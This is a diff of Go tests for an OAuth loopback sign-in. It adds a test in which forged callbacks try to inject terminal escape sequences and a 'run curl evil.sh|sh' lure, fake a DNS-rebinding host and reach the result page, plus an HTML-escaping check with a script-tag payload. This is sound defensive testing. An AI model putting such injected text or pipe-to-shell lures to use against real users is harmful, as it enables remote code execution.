@@ -9,6 +9,7 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"net/http/cookiejar"
 	"net/http/httptest"
 	"net/url"
 	"regexp"
@@ -53,12 +54,19 @@ type browserFunc func(url string) error
 
 func (f browserFunc) Open(u string) error { return f(u) }
 
+// browser is an HTTP client that keeps cookies, as a browser does (the
+// result page names the user only to the browser that delivered the code).
+func browser() *http.Client {
+	jar, _ := cookiejar.New(nil)
+	return &http.Client{Jar: jar}
+}
+
 // follow is a headless browser: it follows the authorize URL through the
 // IdP's redirect to the loopback callback and the result page.
 func follow(t *testing.T, pages chan<- string) browserFunc {
 	return func(u string) error {
 		go func() {
-			resp, err := http.Get(u)
+			resp, err := browser().Get(u)
 			if err != nil {
 				pages <- "error: " + err.Error()
 				return
@@ -210,8 +218,8 @@ func TestLoginRefusesBadIDTokens(t *testing.T) {
 	}
 }
 
-// TestLoginCallbackFailures: wrong state, an error from the provider, no
-// code, a replayed callback. Each ends the attempt with a clear error.
+// TestLoginCallbackFailures: an error from the provider, no code, a
+// replayed callback. Each ends the attempt with a clear error.
 func TestLoginCallbackFailures(t *testing.T) {
 	p := newProvider(t, true, nil)
 	hit := func(o *login.Options, mutate func(callback *url.URL)) browserFunc {
@@ -235,16 +243,10 @@ func TestLoginCallbackFailures(t *testing.T) {
 		mutate func(*url.URL)
 		want   string
 	}{
-		"wrong state": {func(u *url.URL) { q := u.Query(); q.Set("state", "forged"); u.RawQuery = q.Encode() }, "state does not match"},
 		"access denied": {func(u *url.URL) {
 			u.RawQuery = url.Values{"error": {"access_denied"}, "error_description": {"The user cancelled sign-in."}, "state": {u.Query().Get("state")}}.Encode()
 		}, "access_denied: The user cancelled sign-in."},
 		"missing code": {func(u *url.URL) { q := u.Query(); q.Del("code"); u.RawQuery = q.Encode() }, "no authorization code"},
-		// A web page's forged error (no valid state) must not put its text
-		// in the terminal.
-		"forged error": {func(u *url.URL) {
-			u.RawQuery = url.Values{"error": {"server_error"}, "error_description": {"\x1b[2J\x1b[31mYour account is locked: run curl evil.sh|sh"}, "state": {"forged"}}.Encode()
-		}, "state does not match"},
 	}
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -260,6 +262,7 @@ func TestLoginCallbackFailures(t *testing.T) {
 		})
 	}
 	t.Run("replayed callback", func(t *testing.T) {
+		t.Parallel()
 		o := options(t, p, nil)
 		second := make(chan int, 1)
 		o.Browser = hit(&o, func(u *url.URL) {
@@ -284,6 +287,86 @@ func TestLoginCallbackFailures(t *testing.T) {
 	})
 }
 
+// TestHostileCallbacks: while a real sign-in waits, web pages send the
+// loopback listener forged callbacks (a wrong state, a forged error with
+// terminal escapes, a DNS-rebinding Host) and ask for the result page. Each
+// is refused, nothing of theirs reaches the terminal, nobody but the
+// signing-in browser learns who signed in, and the sign-in then succeeds.
+func TestHostileCallbacks(t *testing.T) {
+	p := newProvider(t, true, nil)
+	o := options(t, p, nil)
+	var progress bytes.Buffer
+	o.Progress = &progress
+	base := "http://127.0.0.1:" + strconv.Itoa(o.Port) + "/callback"
+	type answer struct {
+		status int
+		body   string
+	}
+	get := func(c *http.Client, u, host string) answer {
+		req, _ := http.NewRequest("GET", u, nil)
+		if host != "" {
+			req.Host = host
+		}
+		resp, err := c.Do(req)
+		if err != nil {
+			return answer{0, err.Error()}
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		return answer{resp.StatusCode, string(b)}
+	}
+	hostile := map[string]answer{}
+	pages := make(chan string, 1)
+	o.Browser = browserFunc(func(authURL string) error {
+		a, _ := url.Parse(authURL)
+		state := a.Query().Get("state")
+		evil := browser()
+		for name, u := range map[string]string{
+			"wrong state":  base + "?" + url.Values{"state": {"x"}, "code": {"x"}}.Encode(),
+			"forged error": base + "?" + url.Values{"state": {"x"}, "error": {"x"}, "error_description": {"\x1b[2J locked: run curl evil.sh|sh"}}.Encode(),
+			"no state":     base + "?error=x",
+			"result page":  base,
+		} {
+			hostile[name] = get(evil, u, "")
+		}
+		// DNS rebinding: a page on evil.example resolving to 127.0.0.1,
+		// even with this attempt's state.
+		hostile["foreign host"] = get(evil, base+"?"+url.Values{"state": {state}, "error": {"access_denied"}}.Encode(), "evil.example:"+strconv.Itoa(o.Port))
+		go func() { // then the real browser finishes the sign-in
+			resp, err := browser().Get(authURL)
+			if err != nil {
+				pages <- err.Error()
+				return
+			}
+			b, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			pages <- string(b)
+		}()
+		return nil
+	})
+	res, err := login.Run(context.Background(), o)
+	if err != nil {
+		t.Fatalf("the sign-in after the hostile callbacks: %v", err)
+	}
+	if res.Identity.Email != "dev@example.com" {
+		t.Errorf("identity %+v", res.Identity)
+	}
+	for name, a := range hostile {
+		if a.status != http.StatusBadRequest && a.status != http.StatusNotFound {
+			t.Errorf("%s: answered %d, want 400 or 404", name, a.status)
+		}
+		if strings.Contains(a.body, "dev@example.com") {
+			t.Errorf("%s: the page names the user", name)
+		}
+	}
+	if page := <-pages; !strings.Contains(page, "dev@example.com") {
+		t.Errorf("the signing-in browser's page does not name the user:\n%s", page)
+	}
+	if strings.ContainsRune(progress.String(), 0x1b) || strings.Contains(progress.String(), "evil.sh") {
+		t.Errorf("attacker text reached the terminal:\n%s", progress.String())
+	}
+}
+
 // TestCallbackPageEscapes: the provider's error text is shown HTML-escaped.
 func TestCallbackPageEscapes(t *testing.T) {
 	p := newProvider(t, true, nil)
@@ -295,7 +378,7 @@ func TestCallbackPageEscapes(t *testing.T) {
 			cb := "http://127.0.0.1:" + strconv.Itoa(o.Port) + "/callback?" + url.Values{
 				"error": {"access_denied"}, "error_description": {`<script>alert("x")</script>`},
 				"state": {state.Query().Get("state")}}.Encode()
-			resp, err := http.Get(cb)
+			resp, err := browser().Get(cb)
 			if err != nil {
 				pages <- err.Error()
 				return
